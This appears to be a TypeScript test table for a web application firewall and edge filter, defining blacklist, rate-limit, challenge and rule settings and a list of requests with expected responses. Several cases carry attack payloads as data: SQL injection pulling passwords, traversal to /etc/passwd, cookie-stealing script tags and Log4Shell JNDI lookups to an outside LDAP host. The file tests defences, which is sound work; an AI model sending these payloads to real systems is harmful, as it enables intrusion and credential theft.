import type { CheckMethod, RulesetRateLimit } from '@sitekeep/contracts';
import { defaultArrival, defaultCheck, defaultFirewall, defaultResponse, type RulesetFirewallRule } from '@sitekeep/contracts';
import type { RulesetParts } from '../../testing/publisher.ts';

/** One request of the table, without a body. Each comes from an address of its own, unless it names one. */
export interface Case {
  readonly name: string;
  /** `origin`: it reaches the website; else the status of our answer. */
  readonly expected: 'origin' | number;
  readonly method?: string;
  readonly target?: string;
  readonly address?: string;
  readonly userAgent?: string;
  /** Flat list of names and values. */
  readonly headers?: readonly string[];
  /** A pass of this method, for this visitor. */
  readonly pass?: CheckMethod;
  /** Sent so many times; the last one counts. */
  readonly times?: number;
}

const entry = (address: string, expiresAt: number | null = null) => ({ address, expiresAt });
const limit = (name: string, path: string, parts: Partial<RulesetRateLimit> = {}): RulesetRateLimit => ({
  name,
  methods: [],
  path: { kind: 'prefix', value: path },
  key: { kind: 'address' },
  limit: 2,
  windowSeconds: 3600,
  burst: 0,
  action: 'refuse',
  banSeconds: 0,
  ...parts,
});
const prefix = (value: string) => ({ kind: 'prefix' as const, value });
const ruleOn = (path: string, action: RulesetFirewallRule['action']): RulesetFirewallRule => ({
  name: `on ${path}`,
  match: 'all',
  conditions: [{ field: 'path', name: null, operator: 'prefix', values: [path], negate: false, ignoreCase: false }],
  action,
});

/** Where the addresses of the table lie: the lists are loaded for the edge, the countries are what its database says. */
export const networks = {
  torExits: '127.44.0.0/16',
  searchBots: '127.45.0.0/16',
  countryOf: (text: string) => (/^127\.(45|50)\./.test(text) ? 'KP' : text.startsWith('127.51.') ? null : 'DE'),
};
export const botName = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';

/** What the site of the table enforces: every stage there is. */
export const enforced: RulesetParts = {
  filters: {
    blacklist: [entry('127.66.0.0/16'), entry('127.77.6.0/24'), entry('127.67.0.0/16', 1)],
    whitelist: [entry('127.77.0.0/16')],
    countries: { mode: 'block', codes: ['KP'] },
    searchBots: true,
    tor: 'refuse',
  },
  rateLimits: [
    limit('login', '/login', { methods: ['POST'] }),
    limit('api', '/api', { key: { kind: 'header', name: 'x-api-key' } }),
    limit('session', '/cart', { key: { kind: 'cookie', name: 'session' } }),
    limit('trap', '/trap', { action: 'ban', banSeconds: 3600 }),
    limit('busy', '/busy', { action: 'challenge' }),
    limit('watched', '/watched', { action: 'count' }),
  ],
  check: {
    ...defaultCheck,
    always: [
      { path: prefix('/members'), methods: [], method: 'invisible' },
      { path: prefix('/order'), methods: ['POST', 'PUT'], method: 'captcha' },
    ],
    excluded: [prefix('/members/open')],
  },
  firewall: {
    ...defaultFirewall,
    mode: 'block',
    exclusions: [
      { rule: null, family: 'traversal', path: prefix('/login'), place: 'path', parameter: null },
      { rule: null, family: 'protocol', path: prefix('/login'), place: null, parameter: null },
      { rule: null, family: null, path: null, place: 'query', parameter: 'code' },
    ],
    rules: [
      ruleOn('/secret', { kind: 'block' }),
      ruleOn('/odd', { kind: 'challenge' }),
      ruleOn('/moved', { kind: 'redirect', location: '/elsewhere?from=rule', status: 303 }),
      ruleOn('/costly', { kind: 'rate_limit', limit: 2, windowSeconds: 3600 }),
      ruleOn('/noted', { kind: 'log' }),
      ruleOn('/free', { kind: 'allow' }),
    ],
  },
  arrival: { ...defaultArrival, limits: { headBytes: 4096, urlBytes: 1024, bodyBytes: null } },
  response: {
    ...defaultResponse,
    redirects: [{ hostname: null, path: prefix('/old'), to: '/new', status: 301, keepPath: true, keepQuery: true }],
  },
};

export const cases: readonly Case[] = [
  { name: 'a plain request', expected: 'origin' },
  { name: 'HEAD', method: 'HEAD', target: '/page', expected: 'origin' },
  { name: 'another method', method: 'PATCH', target: '/page', expected: 'origin' },
  { name: 'a method of WebDAV', method: 'PROPFIND', target: '/page', expected: 'origin' },
  { name: 'a query', target: '/search?q=a+b&c=%41', expected: 'origin' },
  { name: 'the preflight of a browser', method: 'OPTIONS', target: '/page', headers: ['Origin', 'https://other.test'], expected: 'origin' },

  { name: 'a blacklisted address', address: '127.66.1.1', expected: 403 },
  { name: 'a blacklisted address, POST', address: '127.66.1.2', method: 'POST', target: '/login', expected: 403 },
  { name: 'a blacklisted address that would be redirected', address: '127.66.1.3', target: '/old', expected: 403 },
  { name: 'an entry that has expired', address: '127.67.1.1', expected: 'origin' },
  { name: 'a whitelisted address', address: '127.77.1.1', expected: 'origin' },
  { name: 'a whitelisted address on a checked path', address: '127.77.1.2', target: '/members', expected: 'origin' },
  { name: 'a whitelisted address beyond a limit', address: '127.77.1.3', method: 'POST', target: '/login', times: 4, expected: 'origin' },
  { name: 'an address on both lists', address: '127.77.6.1', expected: 403 },

  { name: 'a blocked country', address: '127.50.1.1', expected: 403 },
  { name: 'a blocked country, a checked path', address: '127.50.1.2', target: '/members', expected: 403 },
  { name: 'an unknown country', address: '127.51.1.1', expected: 'origin' },
  { name: 'an exit of Tor', address: '127.44.1.1', expected: 403 },
  { name: 'a search bot of a blocked country', address: '127.45.1.1', userAgent: botName, expected: 'origin' },
  { name: 'a search bot on a checked path', address: '127.45.1.2', userAgent: botName, target: '/members', expected: 'origin' },
  { name: 'the address of a search bot with another name', address: '127.45.1.3', expected: 'origin' },

  { name: 'below a limit', method: 'POST', target: '/login', times: 2, expected: 'origin' },
  { name: 'beyond a limit', method: 'POST', target: '/login', times: 3, expected: 429 },
  { name: 'another method than the limit counts', target: '/login', times: 4, expected: 'origin' },
  { name: 'beyond a limit by an escaped path', method: 'POST', target: '/%6cogin', times: 3, expected: 429 },
  { name: 'beyond a limit by dot segments', method: 'POST', target: '/a/../login', times: 3, expected: 429 },
  { name: 'beyond a limit of a header', target: '/api', headers: ['X-Api-Key', 'one'], times: 3, expected: 429 },
  { name: 'a limit of a header, another value', target: '/api', headers: ['X-Api-Key', 'two'], expected: 'origin' },
  { name: 'beyond a limit of a cookie', target: '/cart', headers: ['Cookie', 'a=b; session=one'], times: 3, expected: 429 },
  { name: 'a limit that only counts', target: '/watched', times: 4, expected: 'origin' },
  { name: 'beyond a limit that asks for the check', target: '/busy', times: 3, expected: 429 },
  { name: 'beyond it, with a pass', target: '/busy', times: 4, pass: 'invisible', expected: 'origin' },
  { name: 'what bans', address: '127.1.2.3', target: '/trap', times: 3, expected: 429 },
  { name: 'a banned address elsewhere', address: '127.1.2.3', target: '/page', expected: 429 },

  { name: 'a checked path', target: '/members', expected: 429 },
  { name: 'a checked path as a browser', target: '/members', headers: ['Accept', 'text/html'], expected: 429 },
  { name: 'a checked path by HEAD', method: 'HEAD', target: '/members', expected: 429 },
  { name: 'a checked path by an escape', target: '/%6Dembers', expected: 429 },
  { name: 'a checked path with a pass', target: '/members', pass: 'invisible', expected: 'origin' },
  { name: 'a checked path with a better pass', target: '/members', pass: 'captcha', expected: 'origin' },
  { name: 'an excluded path', target: '/members/open/1', expected: 'origin' },
  { name: 'a captcha path', method: 'POST', target: '/order', expected: 429 },
  { name: 'a captcha path by another method', target: '/order', expected: 'origin' },
  { name: 'a captcha path with a weak pass', method: 'POST', target: '/order', pass: 'invisible', expected: 429 },
  { name: 'a captcha path with a pass', method: 'POST', target: '/order', pass: 'captcha', expected: 'origin' },
  { name: 'a made-up pass', target: '/members', headers: ['Cookie', `sitekeep_pass4=1i${'0'.repeat(50)}`], expected: 429 },

  { name: 'an attack in the query', target: "/page?id=1'+union+select+username,password+from+users--", expected: 403 },
  { name: 'an attack in the query, as a browser', target: "/p?id=1'+or+1=1--", headers: ['Accept', 'text/html'], expected: 403 },
  { name: 'an attack in the query, POST', method: 'POST', target: '/page?file=../../../../etc/passwd', expected: 403 },
  { name: 'an attack in the query, by HEAD', method: 'HEAD', target: '/page?file=../../../../etc/passwd', expected: 403 },
  { name: 'an encoded attack in the query', target: '/page?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E', expected: 403 },
  { name: 'an attack in the path', target: '/a/%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E', expected: 403 },
  { name: 'an attack in a header', headers: ['X-Api-Version', '${jndi:ldap://198.51.100.9/a}'], expected: 403 },
  { name: 'an attack in the name of the browser', userAgent: '${jndi:ldap://198.51.100.9/a}', expected: 403 },
  { name: 'an attack in a cookie', headers: ['Cookie', "id=1' union select 1,password from users--"], expected: 403 },
  { name: 'an attack on a checked path, before the check', target: '/members?file=../../../../etc/passwd', expected: 403 },
  { name: 'an attack by a whitelisted address', address: '127.77.1.9', target: '/page?file=../../../../etc/passwd', expected: 403 },
  { name: 'an attack that would be redirected', target: '/old?file=../../../../etc/passwd', expected: 403 },
  { name: 'words that only look odd', target: '/search?q=select+a+table+and+order+by+phone', expected: 'origin' },
  { name: 'an excluded parameter', target: "/page?code=1'+union+select+1,password+from+users--", expected: 'origin' },
  { name: 'another one beside it', target: "/page?code=1'+union+select+1,2--&id=1'+union+select+1,password+from+users--", expected: 403 },
  { name: 'a rule that blocks', target: '/secret/1', expected: 403 },
  { name: 'a rule that blocks, by an escaped path', target: '/%73ecret', expected: 403 },
  { name: 'a rule that wants the check', target: '/odd', expected: 429 },
  { name: 'a rule that wants the check, as a browser', target: '/odd', headers: ['Accept', 'text/html'], expected: 429 },
  { name: 'a rule that wants the check, with a pass', target: '/odd', pass: 'invisible', expected: 'origin' },
  { name: 'a rule that sends elsewhere', target: '/moved/x', expected: 303 },
  { name: 'below the limit of a rule', target: '/costly', times: 2, expected: 'origin' },
  { name: 'beyond the limit of a rule', target: '/costly', times: 3, expected: 429 },
  { name: 'a rule that only writes down', target: '/noted', expected: 'origin' },
  { name: 'a rule that spares', target: "/free?id=1'+union+select+1,password+from+users--", expected: 'origin' },

  { name: 'a redirect', target: '/old/page?x=1', expected: 301 },
  { name: 'an escaped slash', target: '/a%2fb', expected: 'origin' },
  { name: 'bytes of UTF-8', target: '/caf%C3%A9', expected: 'origin' },
  { name: 'empty segments', target: '//a///b', expected: 'origin' },
  { name: 'a bare % in the query', target: '/search?q=100%', expected: 'origin' },
  { name: 'an escaped backslash', target: '/a%5c..%5cb', expected: 400 },
  { name: 'a dot segment with parameters', target: '/a/..;/b', expected: 400 },
  { name: 'a path that is too long', target: `/${'a'.repeat(1500)}`, expected: 414 },
  { name: 'a request that goes in circles', headers: ['CDN-Loop', 'sitekeep, sitekeep, sitekeep, sitekeep'], expected: 508 },
  { name: 'a head that is too large', headers: ['X-Large', 'a'.repeat(4500)], expected: 431 },
];

/** What servers read in different ways, and some proxies refuse or repair themselves: none of it may get through as it is. */
export const malformed: readonly Pick<Case, 'name' | 'method' | 'target' | 'headers'>[] = [
  { name: 'a zero byte', target: '/a%00b' },
  { name: 'an escape that is none', target: '/a%zz' },
  { name: 'a path above the root', target: '/../../etc/passwd' },
  { name: 'a backslash', target: '/a\\..\\members' },
  { name: 'a blank in the path', target: '/a b' },
  { name: 'TRACE', method: 'TRACE' },
  { name: 'a second Host', headers: ['Host', 'other.test'] },
  { name: 'another host in the request line', target: 'http://other.test/' },
  { name: 'a method nobody knows', method: 'FROBNICATE' },
];
